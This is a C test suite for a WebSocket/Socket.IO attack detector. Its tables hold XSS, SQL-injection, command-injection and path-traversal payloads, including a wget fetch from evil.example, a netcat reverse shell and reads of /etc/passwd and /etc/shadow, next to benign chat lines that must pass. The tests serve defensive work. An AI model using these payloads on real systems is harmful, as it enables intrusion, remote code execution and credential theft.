// SPDX-License-Identifier: GPL-2.0-only
/*
 * wsg_inspect(): true positives and true negatives per detector (each payload wrapped as a
 * Socket.IO chat event), the framework decoders (namespaces, acks, binary headers, plain
 * JSON and text, malformed input), the decoding bounds, and the anchor/escape exports.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "wsg_test.h"
#include "inspect.h"
#include "prefilter.h"

WSG_TEST_MAIN

/* Wrap p as 42["chat message","<p JSON-escaped>"] and inspect it. */
static int wsg_chat(const char *p, struct wsg_finding *f)
{
	char buf[4096];
	size_t o = (size_t)snprintf(buf, sizeof(buf), "42[\"chat message\",\"");

	for (; *p && o + 8 < sizeof(buf); p++) {
		if (*p == '"' || *p == '\\') {
			buf[o++] = '\\';
			buf[o++] = *p;
		} else if ((unsigned char)*p < 0x20) {
			o += (size_t)snprintf(buf + o, 8, "\\u%04x", *p);
		} else {
			buf[o++] = *p;
		}
	}
	o += (size_t)snprintf(buf + o, sizeof(buf) - o, "\"]");
	return wsg_inspect(WSG_FW_AUTO, 1, buf, o, f);
}

struct wsg_case {
	const char *payload;
	const char *cls;	/* expected class when blocked, NULL: must pass */
};

static void wsg_run_cases(const struct wsg_case *c, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct wsg_finding f = {};
		int b = wsg_chat(c[i].payload, &f);

		if (c[i].cls)
			CHECK(b && !strcmp(f.cls, c[i].cls), "should block as %s: %s (got %s %s)",
			      c[i].cls, c[i].payload, b ? f.cls : "allow", b ? f.rule : "");
		else
			CHECK(!b, "should pass: %s (blocked by %s at %s: %s)", c[i].payload, f.rule,
			      f.where, f.excerpt);
	}
}

#define RUN(tab) wsg_run_cases(tab, sizeof(tab) / sizeof(tab[0]))

static const struct wsg_case wsg_xss_cases[] = {
	{ "<script>alert(1)</script>", "xss" },
	{ "<ScRiPt src=//evil.example/x.js></sCrIpT>", "xss" },
	{ "<img src=x onerror=alert(1)>", "xss" },
	{ "<img src=x onerror =alert(1)>", "xss" },
	{ "<svg onload=alert(1)>", "xss" },
	{ "<svg/onload=alert(1)>", "xss" },
	{ "<iframe src=\"javascript:alert(1)\"></iframe>", "xss" },
	{ "<a href=javascript:alert(document.cookie)>x</a>", "xss" },
	{ "<a href=\"java\tscript:alert(1)\">x</a>", "xss" },
	{ "<body onload=alert(1)>", "xss" },
	{ "<x onxxx=1", "xss" },
	{ "&lt;script&gt;alert(1)&lt;/script&gt;", "xss" },
	{ "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss" },
	{ "\\u003cscript\\u003ealert(1)", "xss" },
	{ "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>", "xss" },
	{ "javascript:alert(1)", "xss" },
	{ "\" onmouseover=\"alert(1)", "xss" },
	{ "';alert(String.fromCharCode(88,83,83))//", "xss" },
	{ "<div style=\"width:expression(alert(1))\">", "xss" },
	{ "I'm in! <3", NULL },
	{ "2 < 3 and 5 > 4", NULL },
	{ "x<y", NULL },
	{ "a<b>c", NULL },
	{ "I used the <b> tag for bold, is that deprecated?", NULL },
	{ "put a <br> between them", NULL },
	{ "the script tag goes at the end of the body", NULL },
	{ "use &amp; for ampersands in HTML", NULL },
	{ "<-- this one", NULL },
	{ "<<< back", NULL },
	{ "try console.log(typeof null) and be amazed", NULL },
	{ "javascript: the good parts is a book", NULL },
	{ "use alert('hi') to debug", NULL },
};

WSG_TEST(xss_table)
{
	REQUIRE(wsg_inspect_init() == 0, "init");
	RUN(wsg_xss_cases);
}

static const struct wsg_case wsg_sqli_cases[] = {
	{ "1' OR '1'='1", "sqli" },
	{ "' union select username, password from users--", "sqli" },
	{ "admin'--", "sqli" },
	{ "admin'#", "sqli" },
	{ "1;drop table x", "sqli" },
	{ "' or 1=1--", "sqli" },
	{ "1 and sleep(5)", "sqli" },
	{ "' or sleep(5)#", "sqli" },
	{ "1' and benchmark(5000000,md5(1))--", "sqli" },
	{ "-1 union all select 1,2,@@version--", "sqli" },
	{ "1 UNION/**/SELECT 1,2,3", "sqli" },
	{ "') or ('1'='1", "sqli" },
	{ "\" or \"\"=\"", "sqli" },
	{ "'; exec xp_cmdshell 'dir'--", "sqli" },
	{ "1; waitfor delay '0:0:5'--", "sqli" },
	{ "x' AND extractvalue(1,concat(0x7e,version()))--", "sqli" },
	{ "1%27%20or%20%271%27%3D%271", "sqli" },
	{ "don't select me", NULL },
	{ "select the best option", NULL },
	{ "Please select one option and update me later", NULL },
	{ "We need to union together and execute the plan", NULL },
	{ "use SELECT * FROM t to see the rows", NULL },
	{ "try SELECT count(*) FROM orders WHERE status = 'open'", NULL },
	{ "it's 'or' not 'and' in that sentence", NULL },
	{ "isn't 1 = 1 obvious? lol", NULL },
	{ "'hello' and 'goodbye' are both in the dictionary", NULL },
	{ "1=1, 2=2, so what?", NULL },
	{ "it's 5'11\" not 6'", NULL },
	{ "the dogs' and cats' food", NULL },
	{ "I always forget: is it LEFT JOIN or LEFT OUTER JOIN?", NULL },
	{ "apt-get update; apt-get upgrade", NULL },
	{ "need sleep(8h) badly", NULL },
};

WSG_TEST(sqli_table)
{
	REQUIRE(wsg_inspect_init() == 0, "init");
	RUN(wsg_sqli_cases);
}

static const struct wsg_case wsg_cmdi_cases[] = {
	{ "; cat /etc/passwd", "rce" },
	{ "| id", "rce" },
	{ "`id`", "rce" },
	{ "$(whoami)", "rce" },
	{ "&& rm -rf /", "rce" },
	{ "127.0.0.1; ls -la", "rce" },
	{ "a;id;", "rce" },
	{ "x || wget http://evil.example/x.sh", "rce" },
	{ "() { :;}; /bin/bash -c 'id'", "rce" },
	{ "cat${IFS}/etc/passwd", "rce" },
	{ "system('whoami');", "rce" },
	{ "foo && nc -e /bin/sh 10.0.0.1 4444", "rce" },
	{ "a | b", NULL },
	{ "Tom & Jerry | Rick & Morty", NULL },
	{ "cats & dogs; birds & fish", NULL },
	{ "what does $(pwd) print for you?", NULL },
	{ "use ${HOME}/projects instead of hardcoding the path", NULL },
	{ "python3 -m venv .venv && source .venv/bin/activate", NULL },
	{ "can you give the output of lspci | grep VGA", NULL },
	{ "sudo apt-get update && sudo apt-get upgrade", NULL },
	{ "the template literal is `Hello ${name}`", NULL },
	{ "x = x || {}; is an old idiom", NULL },
	{ "!ops | baconnessie", NULL },
};

WSG_TEST(cmdi_table)
{
	REQUIRE(wsg_inspect_init() == 0, "init");
	RUN(wsg_cmdi_cases);
}

static const struct wsg_case wsg_lfi_cases[] = {
	{ "../../etc/passwd", "lfi" },
	{ "..%2f..%2f..%2fetc%2fpasswd", "lfi" },
	{ "..%252f..%252fetc%252fshadow", "lfi" },
	{ "/etc/shadow", "lfi" },
	{ "..\\..\\windows\\win.ini", "lfi" },
	{ "php://filter/convert.base64-encode/resource=index.php", "lfi" },
	{ "file:///etc/passwd", "lfi" },
	{ "....//....//etc/hosts", "lfi" },
	{ "..%c0%af..%c0%afboot.ini", "lfi" },
	{ "c:\\windows\\system32\\drivers\\etc\\hosts", "lfi" },
	{ "the image is at ../assets/logo.png", NULL },
	{ "the config lives in ~/.config/app/settings.json", NULL },
	{ "my files are in C:\\Users\\Anna\\Documents\\taxes", NULL },
	{ "open C:\\Program Files\\App\\config.ini", NULL },
	{ "hmm.. ok... sure", NULL },
	{ "sudo gedit /etc/fstab to edit it", NULL },
	{ "wait...? really?", NULL },
};

WSG_TEST(lfi_table)
{
	REQUIRE(wsg_inspect_init() == 0, "init");
	RUN(wsg_lfi_cases);
}

static int wsg_msg(enum wsg_framework fw, const char *m, struct wsg_finding *f)
{
	memset(f, 0, sizeof(*f));
	return wsg_inspect(fw, 1, m, strlen(m), f);
}

WSG_TEST(socketio_packets)
{
	struct wsg_finding f;

	REQUIRE(wsg_inspect_init() == 0, "init");
	/* Engine.IO control packets and empty Socket.IO packets pass. */
	CHECK(!wsg_msg(WSG_FW_AUTO, "2", &f), "ping");
	CHECK(!wsg_msg(WSG_FW_AUTO, "3", &f), "pong");
	CHECK(!wsg_msg(WSG_FW_AUTO, "2probe", &f), "ping probe");
	CHECK(!wsg_msg(WSG_FW_AUTO, "40", &f), "connect");
	CHECK(!wsg_msg(WSG_FW_AUTO, "40/chat,", &f), "connect to namespace");
	CHECK(!wsg_msg(WSG_FW_AUTO, "41/admin,", &f), "disconnect");
	CHECK(!wsg_msg(WSG_FW_SOCKETIO, "6", &f), "noop");
	/* Events with namespaces, ack ids, binary headers: the payload is found. */
	CHECK(wsg_msg(WSG_FW_AUTO, "42/admin,[\"cmd\",\"<script>alert(1)</script>\"]", &f) &&
	      !strcmp(f.where, "$[1]"), "namespace event: %s", f.where);
	CHECK(wsg_msg(WSG_FW_AUTO, "421[\"ev\",{\"q\":\"' or 1=1--\"}]", &f) &&
	      !strcmp(f.where, "$[1].q") && !strcmp(f.cls, "sqli"), "ack id event: %s", f.where);
	CHECK(wsg_msg(WSG_FW_AUTO, "42/admin,17[\"ev\",\"; cat /etc/passwd\"]", &f),
	      "namespace and ack id");
	CHECK(wsg_msg(WSG_FW_AUTO, "451-[\"up\",{\"_placeholder\":true,\"num\":0},"
		      "\"../../etc/passwd\"]", &f) && !strcmp(f.where, "$[2]"),
	      "binary event header: %s", f.where);
	CHECK(wsg_msg(WSG_FW_AUTO, "43[{\"r\":\"<svg onload=alert(1)>\"}]", &f) &&
	      !strcmp(f.where, "$[0].r"), "ack: %s", f.where);
	CHECK(wsg_msg(WSG_FW_AUTO, "40{\"token\":\"' or '1'='1\"}", &f), "connect auth payload");
	/* Object keys are inspected too. */
	CHECK(wsg_msg(WSG_FW_AUTO, "42[\"ev\",{\"<img src=x onerror=alert(1)>\":1}]", &f),
	      "key");
	/* Benign frames from the tricky corpus. */
	CHECK(!wsg_msg(WSG_FW_AUTO, "42[\"chat message\",\"hello everyone\"]", &f), "hello");
	CHECK(!wsg_msg(WSG_FW_AUTO, "42/chat,[\"msg\",{\"text\":\"where are you from?\","
		       "\"room\":\"lobby\"}]", &f), "namespace chat");
	CHECK(!wsg_msg(WSG_FW_AUTO, "421[\"getHistory\",{\"before\":1709294400,\"limit\":25}]",
		       &f), "ack chat");
	CHECK(!wsg_msg(WSG_FW_AUTO, "42[\"join\",{\"room\":\"dev\",\"nick\":\"o'brien\"}]", &f),
	      "o'brien");
}

WSG_TEST(socketio_malformed)
{
	struct wsg_finding f;

	REQUIRE(wsg_inspect_init() == 0, "init");
	/* Invalid JSON in a Socket.IO frame: the raw text is inspected instead. */
	CHECK(wsg_msg(WSG_FW_AUTO, "42[\"chat message\",\"<script>alert(1)</script>", &f),
	      "truncated JSON with attack");
	CHECK(wsg_msg(WSG_FW_SOCKETIO, "42[\"x\", '; cat /etc/passwd']", &f), "single quotes");
	CHECK(!wsg_msg(WSG_FW_AUTO, "42[\"chat message\",\"hello", &f), "truncated benign");
	CHECK(!wsg_msg(WSG_FW_SOCKETIO, "42[", &f), "bare bracket");
	CHECK(!wsg_msg(WSG_FW_SOCKETIO, "451-", &f), "binary header alone");
	CHECK(!wsg_msg(WSG_FW_SOCKETIO, "45", &f), "binary without count");
	CHECK(!wsg_msg(WSG_FW_SOCKETIO, "", &f), "empty");
	CHECK(!wsg_msg(WSG_FW_SOCKETIO, "42/admin", &f), "namespace without comma");
	CHECK(!wsg_msg(WSG_FW_AUTO, "42 is the answer", &f), "text that starts with digits");
	/* \u0000 must not hide the rest of a string. */
	CHECK(wsg_msg(WSG_FW_AUTO, "42[\"m\",\"hi\\u0000<script>alert(1)</script>\"]", &f),
	      "NUL escape");
	CHECK(wsg_msg(WSG_FW_AUTO, "42[\"m\",\"<scr\\u0000ipt>alert(1)</script>\"]", &f),
	      "NUL inside tag name");
}

WSG_TEST(json_and_text)
{
	struct wsg_finding f;

	REQUIRE(wsg_inspect_init() == 0, "init");
	CHECK(wsg_msg(WSG_FW_AUTO, "{\"text\":\"<script>alert(1)</script>\"}", &f) &&
	      !strcmp(f.where, "$.text"), "plain JSON: %s", f.where);
	CHECK(wsg_msg(WSG_FW_JSON, "{\"a\":[{\"b c\":\"1' or '1'='1\"}]}", &f) &&
	      !strcmp(f.where, "$.a[0][\"b c\"]"), "path with odd key: %s", f.where);
	CHECK(wsg_msg(WSG_FW_AUTO, "{\"msg\":\"\\u003cscript\\u003ealert(1)\"}", &f),
	      "JSON escapes");
	CHECK(wsg_msg(WSG_FW_AUTO, "{\"msg\":\"\\\\u003cscript\\\\u003ealert(1)\"}", &f),
	      "double-encoded JSON escapes");
	CHECK(!wsg_msg(WSG_FW_AUTO, "{\"type\":\"join\",\"room\":\"general\",\"id\":12345}",
		       &f), "benign JSON");
	CHECK(!wsg_msg(WSG_FW_AUTO, "{\"a\":null,\"b\":true,\"c\":[],\"d\":{}}", &f), "literals");
	CHECK(wsg_msg(WSG_FW_TEXT, "<img src=x onerror=alert(1)>", &f) && !strcmp(f.where, "$"),
	      "text");
	CHECK(wsg_msg(WSG_FW_AUTO, "../../../etc/passwd", &f), "auto text");
	CHECK(!wsg_msg(WSG_FW_AUTO, "just some chat, nothing to see", &f), "auto benign text");
	CHECK(wsg_msg(WSG_FW_AUTO, "{not json <script>alert(1)</script>", &f), "broken JSON");
	CHECK(wsg_inspect(WSG_FW_AUTO, 0, "<script>alert(1)</script>", 25, &f), "binary opcode");
}

static char *wsg_repeat(const char *pre, const char *unit, size_t n, const char *post)
{
	size_t a = strlen(pre), u = strlen(unit), c = strlen(post);
	char *s = malloc(a + u * n + c + 1), *p = s;

	memcpy(p, pre, a);
	p += a;
	for (size_t i = 0; i < n; i++, p += u)
		memcpy(p, unit, u);
	memcpy(p, post, c + 1);
	return s;
}

WSG_TEST(decode_bounds)
{
	struct wsg_finding f;
	char *s;

	REQUIRE(wsg_inspect_init() == 0, "init");
	/* Nesting: 32 levels pass, 33 and a 100000-deep bomb block as "decode". */
	s = wsg_repeat("42", "[", 31, "\"x\"");
	s = realloc(s, strlen(s) + 40);
	for (int i = 0; i < 31; i++)
		strcat(s, "]");
	CHECK(!wsg_msg(WSG_FW_AUTO, s, &f), "32 levels");
	free(s);
	s = wsg_repeat("42", "[", 33, "");
	CHECK(wsg_msg(WSG_FW_AUTO, s, &f) && !strcmp(f.cls, "decode") && f.rule, "33 levels");
	free(s);
	s = wsg_repeat("", "[", 100000, "");
	CHECK(wsg_msg(WSG_FW_JSON, s, &f) && !strcmp(f.cls, "decode"), "depth bomb");
	free(s);
	s = wsg_repeat("{\"a\":", "{\"a\":", 50000, "");
	CHECK(wsg_msg(WSG_FW_AUTO, s, &f) && !strcmp(f.cls, "decode"), "object depth bomb");
	free(s);
	/* Nodes: 9999 array elements pass, 20000 block. */
	s = wsg_repeat("42[\"e\"", ",1", 9997, "]");
	CHECK(!wsg_msg(WSG_FW_AUTO, s, &f), "9999 nodes: %s", f.rule ? f.rule : "");
	free(s);
	s = wsg_repeat("42[\"e\"", ",1", 20000, "]");
	CHECK(wsg_msg(WSG_FW_AUTO, s, &f) && !strcmp(f.cls, "decode") &&
	      !strcmp(f.rule, "dec-002"), "huge array");
	free(s);
	s = wsg_repeat("[", "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\",", 9000, "1]");
	CHECK(!wsg_msg(WSG_FW_JSON, s, &f), "many strings");
	free(s);
}

WSG_TEST(attack_deep_in_long_message)
{
	struct wsg_finding f;
	char *s = wsg_repeat("42[\"m\",\"", "blah ", 5000, "1' or '1'='1\"]");

	REQUIRE(wsg_inspect_init() == 0, "init");
	CHECK(wsg_msg(WSG_FW_AUTO, s, &f) && !strcmp(f.cls, "sqli"), "padding before sqli");
	CHECK(strlen(f.excerpt) < sizeof(f.excerpt), "excerpt bounded");
	free(s);
	s = wsg_repeat("42[\"m\",\"", "x ", 5000, "\",\"<svg onload=alert(1)>\"]");
	CHECK(wsg_msg(WSG_FW_AUTO, s, &f) && !strcmp(f.where, "$[2]"), "later leaf");
	free(s);
}

/* The raw text holds one of the escape introducers. */
static int wsg_has_escape(const char *p)
{
	const char *const *esc;
	size_t n;

	wsg_inspect_escapes(&esc, &n);
	for (size_t k = 0; k < n; k++)
		if (strcasestr(p, esc[k]))
			return 1;
	return 0;
}

WSG_TEST(anchor_exports)
{
	const char *const *a, *const *esc;
	size_t n;

	REQUIRE(wsg_inspect_init() == 0, "init");
	wsg_inspect_anchors(&a, NULL, &n);
	REQUIRE(n > 0, "no anchors");
	for (size_t i = 0; i < n; i++) {
		REQUIRE(a[i] && a[i][0], "empty anchor %zu", i);
		for (const char *p = a[i]; *p; p++)
			CHECK((unsigned char)*p >= 0x20 && (unsigned char)*p < 0x7f,
			      "anchor '%s' has a non-printable byte", a[i]);
		/* the single-byte ones must not be so common that every message triggers */
		CHECK(strcmp(a[i], "\"") && strcmp(a[i], "'") && strcmp(a[i], "(") &&
		      strcmp(a[i], "or") && strcmp(a[i], "and"), "too common anchor '%s'", a[i]);
	}
	wsg_inspect_escapes(&esc, &n);
	REQUIRE(n > 0, "no escapes");
	CHECK(wsg_has_escape("\\u003c") && wsg_has_escape("%3c") && wsg_has_escape("&lt;") &&
	      wsg_has_escape("\\x3c"), "an escape introducer is missing");
	CHECK(!wsg_has_escape("a+b") && !wsg_has_escape("say \\\"hi\\\""),
	      "'+' and JSON's \\\" are no escapes");
}

/* Base64 blobs the kernel holds are decoded and inspected; short or binary ones are not. */
WSG_TEST(base64_blobs)
{
	static const struct {
		const char *b64;	/* the chat text */
		const char *rule;	/* NULL: must pass */
	} t[] = {
		{ "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss-001" },	/* <script>alert(1)... */
		{ "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "xss-001" },	/* unpadded */
		{ "see Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA== there", "lfi-001" }, /* ../../../../etc/passwd */
		{ "MScgb3IgJzEnPScxJyAtLSBhbmQgbW9yZSB0ZXh0", "sqli-002" }, /* 1' or '1'='1' -- ... */
		{ "aGVsbG8gdGhlcmUsIGhvdyBhcmUgeW91IGRvaW5nIHRvZGF5Pw==", NULL }, /* hello there... */
		{ "AAcOFRwjKjE4P0ZNVFtiaXB3foWMk5qhqK+2vcTL0tng5+71/A==", NULL },	/* binary */
		{ "PGI+eDwvYj4=", NULL },	/* <b>x</b>: too short a run to be a blob */
	};
	struct wsg_finding f;

	REQUIRE(wsg_inspect_init() == 0, "init");
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		int block = wsg_chat(t[i].b64, &f);

		if (t[i].rule)
			CHECK(block && !strcmp(f.rule, t[i].rule) && strstr(f.where, ".base64"),
			      "\"%s\": %s at %s", t[i].b64, block ? f.rule : "allowed",
			      block ? f.where : "-");
		else
			CHECK(!block, "\"%s\" blocked by %s", t[i].b64, f.rule);
	}
}

/* The daemon must see a Socket.IO binary event's announcement to follow its attachments. */
WSG_TEST(binary_event_announcement_reaches_daemon)
{
	static struct wsg_pf_table pf;
	static const char bin[] = "451-[\"upload\",{\"_placeholder\":true,\"num\":0}]";
	static const char chat[] = "42[\"chat message\",\"hello there\"]";

	REQUIRE(wsg_inspect_init() == 0, "init");
	wsg_pf_build(&pf);
	CHECK(wsg_pf_message(&pf, (const unsigned char *)bin, strlen(bin)),
	      "binary event announcement fast-pathed");
	CHECK(!wsg_pf_message(&pf, (const unsigned char *)chat, strlen(chat)),
	      "plain chat event held");
}

/*
 * Typical JSON envelopes reach the kernel fast path: keys that start like a command ("type",
 * "time", "id", "category", "network", "cursor"), nested objects, snake_case keys like PHP
 * ini names, a JSON-RPC call and SignalR invocation hold no anchor piece. (Arrays of numbers
 * and GraphQL documents still do: ",2" and "send(".)
 */
WSG_TEST(json_envelopes_fast_path)
{
	static struct wsg_pf_table pf;
	static const char *const msgs[] = {
		"{\"type\":\"message\",\"room\":\"lobby\",\"text\":\"hello there\"}",
		"{\"jsonrpc\":\"2.0\",\"method\":\"chat.send\",\"params\":{\"text\":\"hi\"},\"id\":7}",
		"{\"type\":1,\"target\":\"Send\",\"arguments\":[\"hi\"]}\x1e",
		"{\"id\":123,\"type\":\"chat\",\"time\":1700000000,\"timestamp\":\"2024-01-01\","
		"\"name\":\"bob\",\"data\":{\"x\":1}}",
		"{\"category\":\"news\",\"direction\":\"up\",\"current\":3,\"cursor\":\"abc\","
		"\"task\":\"build\",\"page\":2,\"perPage\":20}",
		"{\"system\":\"linux\",\"alias\":\"bob\",\"answer\":42,\"network\":\"wifi\","
		"\"pin\":1234,\"ping\":5,\"pipeline\":\"ci\",\"timeout\":30}",
		"{\"user_id\":1,\"error_code\":0,\"display_name\":\"x\",\"max_tokens\":9,"
		"\"created_by\":\"a\",\"api_key\":\"k\",\"filename\":\"a.txt\"}",
		"{\"type\":\"connection_init\",\"payload\":{}}",
		"{\"type\":\"next\",\"id\":\"1\",\"payload\":{\"data\":{\"messageAdded\":"
		"{\"id\":\"9\",\"text\":\"hi\"}}}}",
		"{\"event\":\"error\",\"reason\":\"unauthorized\",\"path\":\"/files\","
		"\"attachments\":[],\"mentions\":[]}",
		"{\"type\":\"dir\",\"value\":\"id\",\"kind\":\"cat\"}",
		NULL,
	};

	REQUIRE(wsg_inspect_init() == 0, "init");
	wsg_pf_build(&pf);
	for (int i = 0; msgs[i]; i++)
		CHECK(!wsg_pf_message(&pf, (const unsigned char *)msgs[i], strlen(msgs[i])),
		      "JSON envelope held: %s", msgs[i]);
}

/*
 * Soundness over a generated set: whatever blocks holds an anchor or an escape byte in its
 * raw bytes (the corpus test checks the same over the dev corpus).
 */
WSG_TEST(soundness_on_tables)
{
	const struct wsg_case *tabs[] = { wsg_xss_cases, wsg_sqli_cases, wsg_cmdi_cases,
					  wsg_lfi_cases };
	const size_t ns[] = { sizeof(wsg_xss_cases) / sizeof(wsg_xss_cases[0]),
			      sizeof(wsg_sqli_cases) / sizeof(wsg_sqli_cases[0]),
			      sizeof(wsg_cmdi_cases) / sizeof(wsg_cmdi_cases[0]),
			      sizeof(wsg_lfi_cases) / sizeof(wsg_lfi_cases[0]) };
	const char *const *a;
	size_t na;

	REQUIRE(wsg_inspect_init() == 0, "init");
	wsg_inspect_anchors(&a, NULL, &na);
	for (int t = 0; t < 4; t++) {
		for (size_t i = 0; i < ns[t]; i++) {
			const char *p = tabs[t][i].payload;
			struct wsg_finding f;
			int ok = wsg_has_escape(p);

			if (!wsg_chat(p, &f))
				continue;
			for (size_t k = 0; k < na && !ok; k++)
				ok = strcasestr(p, a[k]) || (a[k][0] == '"' &&
							     !strncasecmp(p, a[k] + 1,
									  strlen(a[k] + 1)));
			CHECK(ok, "blocked without an anchor: %s", p);
		}
	}
}
